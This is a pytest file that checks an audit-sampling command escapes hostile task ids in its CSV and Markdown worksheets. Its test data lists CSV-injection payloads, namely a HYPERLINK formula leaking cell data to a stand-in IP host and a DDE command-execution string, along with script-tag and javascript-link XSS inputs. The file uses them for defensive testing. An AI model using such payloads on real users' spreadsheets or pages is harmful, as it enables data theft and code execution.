"""Tenant text is inert where it is written out (docs/security.md "Tenant text"): task ids
sent with an ``events:write`` key become no spreadsheet formula in an ``aaaf audit sample``
CSV worksheet, and no HTML, link or heading in its Markdown worksheet."""

from __future__ import annotations

import csv
import re
import subprocess
from datetime import UTC, datetime, timedelta
from pathlib import Path

from aaaf.escaping import FORMULA_STARTS
from tests.api.conftest import LiveServer, aaaf_script, task_events

HOSTILE_TASK_IDS = (
    '=HYPERLINK("http://203.0.113.9/?"&A1,"open")',
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "<script>alert(1)</script>",
    "[click](javascript:alert(1))",
)


def _sample(live: LiveServer, org_name: str, agent: str, output: Path) -> None:
    answer = subprocess.run(
        [
            aaaf_script(),
            "--org",
            org_name,
            "audit",
            "sample",
            agent,
            "--output",
            str(output),
            "--rate",
            "1",
            "--db",
            live.database_url,
        ],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=output.parent,
        check=False,
    )
    assert answer.returncode == 0, answer.stdout + answer.stderr


def test_audit_worksheets_neutralise_tenant_text(live: LiveServer, tmp_path: Path) -> None:
    org = live.organization()
    agent = org.client.post("/api/v1/agents", json={"name": "sheet-target"}).json()
    writer = org.client.post("/api/v1/keys", json={"name": "ingest", "scopes": ["events:write"]})
    assert writer.status_code == 201, writer.text
    ingest = live.client(writer.json()["api_key"])
    now = datetime.now(UTC)
    events = [
        event
        for index, task_id in enumerate(HOSTILE_TASK_IDS)
        for event in task_events(agent["id"], task_id, now - timedelta(hours=1 + index))
    ]
    for index, event in enumerate(events):
        event["id"] = f"e-{index}"
    stored = ingest.post("/api/v1/events/batch", json={"events": events})
    assert stored.status_code in (200, 201, 207), stored.text

    sheet = tmp_path / "sheet.csv"
    _sample(live, org.name, "sheet-target", sheet)
    with sheet.open(newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == 1 + len(HOSTILE_TASK_IDS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
    assert {row[1] for row in rows[1:]} == {
        ("'" + task_id if task_id.startswith(FORMULA_STARTS) else task_id) for task_id in HOSTILE_TASK_IDS
    }

    md = tmp_path / "sheet.md"
    _sample(live, org.name, "sheet-target", md)
    text = md.read_text()
    assert "<script>" not in text, text
    assert re.search(r"(?<!\\)\]\(javascript:", text) is None, text
    assert "&lt;script&gt;" in text
    assert "\\[click\\](javascript:alert(1))" in text
